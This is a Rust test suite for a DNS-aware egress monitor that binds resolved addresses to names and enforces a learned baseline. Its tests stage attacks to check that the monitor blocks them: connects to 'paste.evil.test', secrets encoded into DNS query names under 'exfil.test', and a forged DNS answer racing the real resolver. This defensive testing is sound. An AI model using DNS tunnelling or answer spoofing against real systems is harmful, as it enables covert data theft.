//! Egress by name: the kernel reads the DNS answers of tracked investigations, binds each
//! answered address to the name asked (for that investigation, until the TTL runs out), and
//! an enforcing phase allows a connect by the name its baseline learned. Against a DNS
//! server on loopback started here and listeners on the addresses it answers. Real kernel,
//! real daemon; needs root.
use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    time::Duration,
};

use paddock_tests::{
    Daemon, Listener, config,
    dns::{DnsServer, Record},
    dump, entries, of_kind, skip_unless_root,
};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);

/// A resolver on its own loopback address (port 53), a port every listener shares, and the
/// listeners by address.
struct World {
    dns: DnsServer,
    resolver: Ipv4Addr,
    port: u16,
    listeners: Vec<(IpAddr, Listener)>,
}

impl World {
    /// `n` is this test's own block of loopback addresses (127.0.n.x), so no two tests
    /// share a resolver or a listener.
    fn new(n: u8, hosts: &[&str]) -> World {
        let resolver = Ipv4Addr::new(127, 0, n, 53);
        let dns = DnsServer::start(SocketAddr::new(resolver.into(), 53)).expect("dns server");
        let probe = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
        let port = probe.local_addr().expect("addr").port();
        drop(probe);
        let listeners = hosts
            .iter()
            .map(|h| {
                let ip: IpAddr = h.parse().expect("an address");
                (ip, Listener::at(SocketAddr::new(ip, port)))
            })
            .collect();
        World { dns, resolver, port, listeners }
    }

    fn accepted(&self, ip: &str) -> u32 {
        let ip: IpAddr = ip.parse().expect("an address");
        let (_, l) = self.listeners.iter().find(|(a, _)| *a == ip).expect("a listener there");
        l.accepted()
    }

    fn a(&self, name: &str, ttl: u32, ips: &[&str]) {
        let records = ips.iter().map(|ip| Record::A(ip.parse().expect("IPv4"))).collect();
        self.dns.set(name, ttl, records);
    }

    /// The actor step that resolves `name` (type `qtype`) and connects to what it got.
    fn dial(&self, name: &str, qtype: &str) -> String {
        format!("dial:{}:{name}:{qtype}:{}", self.resolver, self.port)
    }

    fn resolve(&self, name: &str) -> String {
        format!("resolve:{}:{name}:A", self.resolver)
    }
}

fn run(daemon: &Daemon, id: &str, phase: &str, steps: &[String]) -> std::process::Output {
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    daemon.run_actor(id, phase, &steps)
}

fn teach(daemon: &Daemon, phase: &str, steps: &[String]) {
    for i in 0..3 {
        let out = run(daemon, &format!("learn-{phase}-{i}"), phase, steps);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        daemon.events_of(&format!("learn-{phase}-{i}"), WAIT);
    }
}

fn verdicts(events: &[Value]) -> Vec<&Value> {
    of_kind(events, "verdict", |_| true)
}

#[test]
fn names_are_learned_and_enforced_when_their_addresses_rotate() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(21, &["127.0.21.1", "127.0.21.2", "127.0.21.3", "127.0.21.4"]);
    w.a("api.llm.test", 30, &["127.0.21.1"]);
    w.a("tickets.corp.test", 30, &["127.0.21.2"]);
    let steps = [w.dial("api.llm.test", "A"), w.dial("tickets.corp.test", "A")];
    teach(&daemon, "autonomous", &steps);
    assert_eq!((w.accepted("127.0.21.1"), w.accepted("127.0.21.2")), (3, 3));

    let events = daemon.events_of("learn-autonomous-0", WAIT);
    let query = of_kind(&events, "dns", |e| e["op"] == "query" && e["name"] == "api.llm.test");
    assert_eq!(query.len(), 1, "{}", dump(&events));
    assert_eq!(query[0]["qtype"], "A");
    let answer = of_kind(&events, "dns", |e| e["op"] == "answer" && e["name"] == "api.llm.test");
    assert_eq!(answer[0]["answers"][0]["address"], "127.0.21.1", "{}", dump(&events));
    let connect = of_kind(&events, "connect", |e| e["address"] == "127.0.21.1");
    assert_eq!(connect[0]["name"], "api.llm.test", "{}", dump(&events));

    let baseline = daemon.baseline("autonomous");
    let egress = entries(&baseline, "egress");
    let port = w.port;
    assert!(egress.contains(&format!("tcp api.llm.test port {port}")), "{egress:?}");
    assert!(egress.contains(&format!("tcp tickets.corp.test port {port}")), "{egress:?}");
    assert!(egress.contains(&format!("udp {}/32 port 53", w.resolver)), "the resolver: {egress:?}");
    assert!(!egress.iter().any(|e| e.contains("127.0.21.1/32")), "learned by name: {egress:?}");
    let dns = entries(&baseline, "dns");
    assert_eq!(dns, ["api.llm.test", "tickets.corp.test"]);

    daemon.set_mode("autonomous", "enforce");
    // The provider moved: new addresses, same names.
    w.a("api.llm.test", 30, &["127.0.21.3"]);
    w.a("tickets.corp.test", 30, &["127.0.21.4"]);
    for i in 0..2 {
        let id = format!("rotated-{i}");
        let out = run(&daemon, &id, "autonomous", &steps);
        assert!(out.status.success(), "no false kill: {}", String::from_utf8_lossy(&out.stderr));
        let events = daemon.events_of(&id, WAIT);
        assert!(verdicts(&events).is_empty(), "{}", dump(&events));
    }
    assert_eq!((w.accepted("127.0.21.3"), w.accepted("127.0.21.4")), (2, 2));

    // An address the name resolved to in an earlier investigation, never resolved in this
    // one: judged as an address, and refused.
    let out = run(&daemon, "stale", "autonomous", &[format!("connect:127.0.21.3:{port}")]);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.accepted("127.0.21.3"), 2, "the connect never landed");
    let events = daemon.events_of("stale", WAIT);
    let connect = of_kind(&events, "connect", |e| e["address"] == "127.0.21.3");
    assert_eq!(connect[0]["action"], "denied", "{}", dump(&events));
    assert!(connect[0].get("name").is_none(), "no name bound here: {}", connect[0]);
}

#[test]
fn a_name_outside_the_baseline_never_connects_and_the_verdict_names_it() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(22, &["127.0.22.1", "127.0.22.6"]);
    w.a("api.llm.test", 30, &["127.0.22.1"]);
    w.a("paste.evil.test", 30, &["127.0.22.6"]);
    // The phase looks the name up (so the query is known) but never connects to it.
    teach(&daemon, "limited-write", &[w.dial("api.llm.test", "A"), w.resolve("paste.evil.test")]);
    daemon.set_mode("limited-write", "enforce");

    let out = run(&daemon, "stray", "limited-write", &[w.dial("paste.evil.test", "A")]);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.accepted("127.0.22.6"), 0, "the connect never landed");
    let events = daemon.events_of("stray", WAIT);
    let connect = of_kind(&events, "connect", |e| e["address"] == "127.0.22.6");
    assert_eq!(connect.len(), 1, "{}", dump(&events));
    assert_eq!(
        (&connect[0]["action"], &connect[0]["name"]),
        (&"denied".into(), &"paste.evil.test".into())
    );
    let found = verdicts(&events);
    assert_eq!(found.len(), 1, "{}", dump(&events));
    assert_eq!(found[0]["deviation"], "egress");
    assert_eq!(found[0]["outcome"], "killed");
    let subject = found[0]["subject"].as_str().unwrap_or_default();
    assert!(subject.contains("paste.evil.test") && subject.contains("127.0.22.6"), "{subject}");
}

#[test]
fn a_binding_expires_with_its_ttl_and_the_clamp() {
    skip_unless_root!();
    let mut config = config();
    (config.dns.min_ttl_s, config.dns.max_ttl_s) = (1, 2);
    let daemon = Daemon::start_with(config);
    let w = World::new(23, &["127.0.23.1"]);
    // A TTL of 600 s, clamped to 2 s by `max_ttl_s`.
    w.a("api.llm.test", 600, &["127.0.23.1"]);
    let port = w.port;
    let again = format!("connect:127.0.23.1:{port}");
    teach(&daemon, "read-only", &[w.dial("api.llm.test", "A"), "sleep:1".into(), again.clone()]);
    daemon.set_mode("read-only", "enforce");
    let fresh = run(&daemon, "fresh", "read-only", &[w.dial("api.llm.test", "A"), again.clone()]);
    assert!(fresh.status.success(), "{}", String::from_utf8_lossy(&fresh.stderr));
    assert_eq!(w.accepted("127.0.23.1"), 8);

    let late = [w.dial("api.llm.test", "A"), "sleep:3000".into(), again];
    let out = run(&daemon, "late", "read-only", &late);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.accepted("127.0.23.1"), 9, "the first connect only");
    let events = daemon.events_of("late", WAIT);
    let refused = of_kind(&events, "connect", |e| e["action"] == "denied");
    assert_eq!(refused.len(), 1, "{}", dump(&events));
    assert!(refused[0].get("name").is_none(), "the binding had expired: {}", refused[0]);
}

#[test]
fn cname_chains_aaaa_and_several_addresses_bind_to_the_name_asked() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(24, &["127.0.24.1", "127.0.24.2", "::1"]);
    w.dns.set("www.shop.test", 30, vec![Record::Cname("edge.cdn.test".into())]);
    w.dns.set(
        "edge.cdn.test",
        30,
        vec![
            Record::A("127.0.24.1".parse().unwrap()),
            Record::A("127.0.24.2".parse().unwrap()),
            Record::Aaaa("::1".parse().unwrap()),
        ],
    );
    let steps = [w.dial("www.shop.test", "A"), w.dial("www.shop.test", "AAAA")];
    teach(&daemon, "shadow", &steps);
    let egress = entries(&daemon.baseline("shadow"), "egress");
    let names: Vec<&String> = egress.iter().filter(|e| e.starts_with("tcp ")).collect();
    assert_eq!(names, [&format!("tcp www.shop.test port {}", w.port)], "{egress:?}");

    daemon.set_mode("shadow", "enforce");
    w.dns.set(
        "edge.cdn.test",
        30,
        vec![Record::A("127.0.24.2".parse().unwrap()), Record::Aaaa("::1".parse().unwrap())],
    );
    let out = run(&daemon, "chain", "shadow", &steps);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let events = daemon.events_of("chain", WAIT);
    assert!(verdicts(&events).is_empty(), "{}", dump(&events));
    let v6 = of_kind(&events, "connect", |e| e["address"] == "::1");
    assert_eq!(v6[0]["name"], "www.shop.test", "{}", dump(&events));
    assert_eq!((w.accepted("127.0.24.1"), w.accepted("127.0.24.2"), w.accepted("::1")), (3, 4, 4));
}

#[test]
fn a_query_outside_the_baseline_is_killed_in_enforce_and_flagged_in_flag() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(25, &["127.0.25.1"]);
    w.a("api.llm.test", 30, &["127.0.25.1"]);
    let steps = [w.dial("api.llm.test", "A"), "sleep:1".into()];
    teach(&daemon, "read-only", &steps);
    teach(&daemon, "shadow", &steps);
    daemon.set_mode("read-only", "enforce");
    daemon.set_mode("shadow", "flag");
    // Data leaving in the name itself.
    let leak = "c2VjcmV0.exfil.test";
    let steps = [w.resolve(leak), "sleep:500".into()];

    let out = run(&daemon, "leak-enforce", "read-only", &steps);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        !w.dns.queries().iter().any(|(n, _)| n == &leak.to_lowercase()),
        "the query never left"
    );
    let events = daemon.events_of("leak-enforce", WAIT);
    let query = of_kind(&events, "dns", |e| e["op"] == "query");
    assert_eq!(query[0]["action"], "denied", "{}", dump(&events));
    let found = verdicts(&events);
    assert_eq!((found.len(), &found[0]["deviation"]), (1, &"dns".into()), "{}", dump(&events));
    assert_eq!(found[0]["outcome"], "killed");

    let out = run(&daemon, "leak-flag", "shadow", &steps);
    assert!(
        out.status.success(),
        "flag mode lets it run: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = daemon.events_of("leak-flag", WAIT);
    let found = verdicts(&events);
    assert_eq!(found.len(), 1, "{}", dump(&events));
    assert_eq!((&found[0]["deviation"], &found[0]["outcome"]), (&"dns".into(), &"flagged".into()));
    assert!(found[0]["subject"].as_str().unwrap_or_default().contains("exfil.test"));
}

#[test]
fn untracked_processes_resolve_and_connect_anywhere_untouched() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(26, &["127.0.26.1", "127.0.26.6"]);
    w.a("api.llm.test", 30, &["127.0.26.1"]);
    w.a("paste.evil.test", 30, &["127.0.26.6"]);
    teach(&daemon, "autonomous", &[w.dial("api.llm.test", "A")]);
    daemon.set_mode("autonomous", "enforce");
    let out = std::process::Command::new(paddock_tests::actor_bin())
        .args([w.dial("paste.evil.test", "A"), w.dial("api.llm.test", "A")])
        .output()
        .expect("run the actor");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!((w.accepted("127.0.26.6"), w.accepted("127.0.26.1")), (1, 4));
    let status = daemon.status();
    assert!(!status.to_string().contains("paste.evil.test"), "nothing reported: {status}");
}

#[test]
fn a_forged_answer_racing_the_server_binds_nothing() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(27, &["127.0.27.1", "127.0.27.6"]);
    w.a("api.llm.test", 30, &["127.0.27.1"]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("socket");
    let race = format!("race:{}:api.llm.test:{}:{}", w.resolver, file.display(), w.port);
    teach(&daemon, "autonomous", std::slice::from_ref(&race));
    assert_eq!(w.accepted("127.0.27.1"), 3);
    daemon.set_mode("autonomous", "enforce");
    std::fs::remove_file(&file).unwrap();

    // An accomplice off the process's path answers first, from port 53 of another
    // address, with the right id and name and its own address.
    let forger = std::thread::spawn(move || {
        let socket = std::net::UdpSocket::bind("127.0.27.7:53").expect("bind the forger");
        let deadline = std::time::Instant::now() + Duration::from_secs(10);
        while std::time::Instant::now() < deadline {
            if let Ok(text) = std::fs::read_to_string(&file)
                && let Some((port, id)) = text.split_once(' ')
                && let (Ok(port), Ok(id)) = (port.parse::<u16>(), id.parse::<u16>())
            {
                let forged = paddock_tests::dns::answer_message(
                    "api.llm.test",
                    id,
                    "127.0.27.6".parse().unwrap(),
                    300,
                )
                .unwrap();
                for _ in 0..20 {
                    let _ = socket.send_to(&forged, ("127.0.0.1", port));
                    std::thread::sleep(Duration::from_millis(10));
                }
                return true;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
        false
    });
    let out = run(&daemon, "forged", "autonomous", &[race]);
    assert!(forger.join().unwrap(), "the forger saw the socket");
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.accepted("127.0.27.6"), 0, "the forged address was never reached");
    let events = daemon.events_of("forged", WAIT);
    let forged = of_kind(&events, "dns", |e| e["op"] == "answer" && e["server"] == "127.0.27.7");
    assert!(!forged.is_empty(), "{}", dump(&events));
    assert_eq!(forged[0]["notes"][0], "unsolicited", "{}", dump(&events));
    let refused = of_kind(&events, "connect", |e| e["address"] == "127.0.27.6");
    assert_eq!(refused[0]["action"], "denied", "{}", dump(&events));
    assert!(refused[0].get("name").is_none(), "not bound to the name: {}", refused[0]);
}

#[test]
fn a_query_behind_an_ipv6_extension_header_is_still_judged() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let v6 = DnsServer::start("[::1]:53".parse().unwrap()).expect("a resolver on [::1]:53");
    v6.set("api.llm.test", 30, vec![Record::A("127.0.0.1".parse().unwrap())]);
    // The phase asks that resolver, with and without the header: both are learned.
    teach(
        &daemon,
        "limited-write",
        &["resolve6:api.llm.test:plain".into(), "resolve6:api.llm.test:hop".into()],
    );
    assert_eq!(entries(&daemon.baseline("limited-write"), "dns"), ["api.llm.test"]);
    daemon.set_mode("limited-write", "enforce");
    let leak = "c2VjcmV0.exfil.test";
    let out = run(&daemon, "hop", "limited-write", &[format!("resolve6:{leak}:hop")]);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!v6.queries().iter().any(|(n, _)| n == &leak.to_lowercase()), "the query never left");
    let events = daemon.events_of("hop", WAIT);
    let query = of_kind(&events, "dns", |e| e["op"] == "query" && e["name"] == leak.to_lowercase());
    assert_eq!(query.len(), 1, "{}", dump(&events));
    assert_eq!(query[0]["action"], "denied");
}

#[test]
fn over_tcp_names_are_bound_and_queries_judged_too() {
    skip_unless_root!();
    let daemon = Daemon::start();
    let w = World::new(28, &["127.0.28.1", "127.0.28.2"]);
    w.a("api.llm.test", 30, &["127.0.28.1"]);
    let dial = |name: &str| format!("dial-tcp:{}:{name}:{}", w.resolver, w.port);
    teach(&daemon, "read-only", &[dial("api.llm.test")]);
    assert_eq!(w.accepted("127.0.28.1"), 3);
    let egress = entries(&daemon.baseline("read-only"), "egress");
    assert!(egress.contains(&format!("tcp api.llm.test port {}", w.port)), "{egress:?}");
    daemon.set_mode("read-only", "enforce");
    w.a("api.llm.test", 30, &["127.0.28.2"]);
    let out = run(&daemon, "tcp-rotated", "read-only", &[dial("api.llm.test")]);
    assert!(out.status.success(), "no false kill: {}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(w.accepted("127.0.28.2"), 1, "bound from the answer over TCP");

    let leak = "c2VjcmV0.exfil.test";
    let out = run(&daemon, "tcp-leak", "read-only", &[dial(leak)]);
    assert_eq!(out.status.code(), Some(99), "{}", String::from_utf8_lossy(&out.stderr));
    // Read exactly (the server's threads are caught up). The dropped segment stays in the
    // socket's send queue: once the killed process is gone and its investigation ended, the
    // orphaned socket retransmits it, and it must not get through then either.
    let leaked = w.dns.queries().iter().any(|(n, _)| n.contains("exfil"));
    assert!(!leaked, "the query never reached it");
    let events = daemon.events_of("tcp-leak", WAIT);
    // Names are reported lowercase; the dropped segment may be sent again (and refused
    // again) before the process dies.
    let query =
        of_kind(&events, "dns", |e| e["op"] == "query" && e["name"] == "c2vjcmv0.exfil.test");
    assert!(!query.is_empty(), "{}", dump(&events));
    assert!(query.iter().all(|q| q["action"] == "denied"), "{}", dump(&events));
}
